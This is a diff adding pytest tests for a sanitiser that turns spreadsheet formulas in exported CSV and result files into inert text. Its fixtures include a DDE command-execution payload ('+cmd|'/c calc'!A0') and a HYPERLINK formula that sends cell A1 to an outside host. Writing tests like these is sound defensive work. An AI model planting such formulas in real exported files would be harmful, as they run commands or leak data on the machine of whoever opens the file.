@@ -1,0 +1,59 @@
+"""What a spreadsheet would run is made text; all else stays as it is."""
+
+import csv
+import io
+
+import pytest
+
+from metaserver.files.cells import inert
+from metaserver.tasks.ner import NER
+from metaserver.uniprot.vocabulary import FormatVocabulary
+from metaserver.web.ui.tables import lines
+from metaserver.wire.validation import Report
+
+ATTACK = '=HYPERLINK("http://x/?"&A1,"see")'
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["=1+1", "+cmd|'/c calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "-inf", "+nan",
+     '"', "-", "+1 2", "--5", ATTACK],
+)  # fmt: skip
+def test_a_formula_becomes_a_text(text: str) -> None:
+    assert inert(text).startswith(f"'{text[0]}")
+    assert inert(text).replace("'", "") == text.replace("'", "")  # nothing is lost
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["", "0", "-1", "+2.5", "1e-05", "-3.2E+10", ".5", "n/a", "blue-1", "P04637", "a = b", "a, -1",
+     "expected ]0, 1], got 2", "2026-11-21T23:37:00.000+00:00", "it's"],
+)  # fmt: skip
+def test_what_is_no_formula_stays(text: str) -> None:
+    assert inert(text) == text
+
+
+def test_a_cell_cannot_be_cut_into_a_formula() -> None:
+    assert inert("fault;=1+1") == "fault;'=1+1"
+    assert inert("fault,@x") == "fault,'@x"
+    assert inert("1;-2") == "1;'-2"
+    assert inert("10/10") == "10/10"
+
+
+def test_a_csv_has_no_formula() -> None:
+    written = lines(["run", "f"], [[ATTACK, "-0.5"], ["a\tb", "0.25"]])
+    assert list(csv.reader(io.StringIO(written))) == [
+        ["run", "f"], [f"'{ATTACK}", "-0.5"], ["a\tb", "0.25"],
+    ]  # fmt: skip
+
+
+def test_a_servers_words_are_no_formula_in_a_result_file() -> None:
+    report = Report()
+    sent = [
+        {"offset": 0, "mention": "=1+1", "type": "gene"},
+        {"offset": 9, "mention": "p53", "type": ATTACK},
+    ]
+    payload = NER.check(sent, report, FormatVocabulary())
+    assert payload == [[0, "=1+1", "gene"]]
+    assert "expected a word" in report.problems[0].message
+    assert list(NER.result_lines([("a1", payload)])) == ["a1\t0-3\t'=1+1\tgene\n"]
